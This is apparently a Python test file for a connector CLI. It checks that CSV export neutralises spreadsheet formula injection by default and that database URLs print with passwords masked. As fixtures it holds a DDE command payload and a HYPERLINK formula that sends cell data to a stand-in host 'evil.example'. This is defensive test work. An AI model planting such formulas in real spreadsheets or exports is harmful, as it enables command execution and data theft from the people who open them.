"""CSV export: formula cells neutralised by default, --raw to opt out; URLs printed redacted."""

from __future__ import annotations

import csv
import io
import json
import os
from pathlib import Path

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from procs import start_cli

from connector.cli.config_cmds import write_defaults
from connector.exporting import FORMULA_TRIGGERS, UNSAFE_CHARACTERS, csv_cell, csv_row, neutralise
from connector.store import make_engine, migrate, repo

from clirunner import CliResult, invoke

TOLERANT = settings(deadline=None, suppress_health_check=[HealthCheck.too_slow])
SF_ENV = {
    "PRM_SF_LOGIN_URL": "https://login.example.com",
    "PRM_SF_USERNAME": "integration@example.com",
    "PRM_SF_PASSWORD": "not-used",
    "PRM_SF_CLIENT_ID": "client",
    "PRM_SF_CLIENT_SECRET": "not-used-either",
}


@TOLERANT
@given(st.text())
def test_a_neutralised_cell_never_starts_a_formula_and_keeps_its_text(text: str) -> None:
    """Any text: the cell does not start with = + - @ TAB CR, holds no control or bidi
    character, and dropping the ' gives the text back with those replaced by U+FFFD."""
    cell = neutralise(text)
    assert not cell.startswith(FORMULA_TRIGGERS)
    assert not UNSAFE_CHARACTERS.search(cell)
    shown = UNSAFE_CHARACTERS.sub("\ufffd", text)
    assert cell == shown or (cell == "'" + shown and shown.startswith(FORMULA_TRIGGERS))


def test_csv_cells_quote_only_text_and_raw_keeps_it() -> None:
    """Numbers stay numbers; nested values become JSON text; --raw writes text as stored."""
    row = {"name": "=cmd|' /C calc'!A0", "amount": -5.0, "note": "@SUM(A1)", "ok": "Acme",
           "extra": {"k": "=1"}}
    assert csv_row(row) == {"name": "'=cmd|' /C calc'!A0", "amount": -5.0,
                            "note": "'@SUM(A1)", "ok": "Acme", "extra": '{"k": "=1"}'}
    assert csv_cell("\tx") == "'\tx" and csv_cell("\rx") == "'\rx" and csv_cell("+1") == "'+1"
    assert csv_row(row, raw=True)["name"] == "=cmd|' /C calc'!A0"


def _invoke(cfg: Path, url: str, *args: str) -> CliResult:
    env: dict[str, str | None] = {"PRM_CONFIG": None, **SF_ENV, "PRM_DATABASE_URL": url}
    return invoke("-c", str(cfg / "connector.yaml"), *args, env=env)


def _run(cfg: Path, url: str, *args: str) -> CliResult:
    """In a process of its own (from the forkserver): everything the process writes to its
    stdout and stderr, logging handlers included, is checked for the secret."""
    env = {k: v for k, v in os.environ.items() if k != "PRM_CONFIG"}
    env.update(SF_ENV, PRM_DATABASE_URL=url)
    child = start_cli(["-c", str(cfg / "connector.yaml"), *args], env=env, folder=cfg)
    code = child.wait(120)
    return CliResult(code, child.stdout, child.stderr)


def test_export_csv_neutralises_partner_entered_formulas_and_raw_opts_out(tmp_path: Path) -> None:
    """A partner name `=HYPERLINK(...)` exports as text by default; --raw writes it verbatim."""
    write_defaults(tmp_path / "cfg")
    url = f"sqlite:///{tmp_path / 'prm.db'}"
    eng = make_engine(url)
    migrate(eng)
    evil = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    with eng.begin() as conn:
        repo.upsert_records(conn, "partner", [
            repo.RecordRow("001000000000001AAA", {"name": evil, "status": "Active"}),
            repo.RecordRow("001000000000002AAA", {"name": "-10+20", "status": "Active"}),
        ])
    eng.dispose()
    safe = _invoke(tmp_path / "cfg", url, "export", "partner", "--format", "csv")
    assert safe.exit_code == 0, safe.stderr
    rows = list(csv.DictReader(io.StringIO(safe.stdout)))
    assert [r["name"] for r in rows] == ["'" + evil, "'-10+20"]
    raw = _invoke(tmp_path / "cfg", url, "export", "partner", "--format", "csv", "--raw")
    assert [r["name"] for r in csv.DictReader(io.StringIO(raw.stdout))] == [evil, "-10+20"]


def test_status_json_and_db_upgrade_print_the_store_url_redacted(tmp_path: Path) -> None:
    """A database URL with ?password= prints with the value masked, everywhere."""
    write_defaults(tmp_path / "cfg")
    url = f"sqlite:///{tmp_path / 'prm.db'}?password=hunter2-db-secret"
    upgrade = _run(tmp_path / "cfg", url, "db", "upgrade")
    assert upgrade.exit_code == 0, upgrade.stderr
    assert "hunter2-db-secret" not in upgrade.stdout + upgrade.stderr
    assert "password=***" in upgrade.stdout.replace("\n", "")
    status = _run(tmp_path / "cfg", url, "status", "--json")
    assert status.exit_code == 0, status.stderr
    assert "hunter2-db-secret" not in status.stdout + status.stderr
    assert json.loads(status.stdout)["database"].endswith("prm.db?password=***")
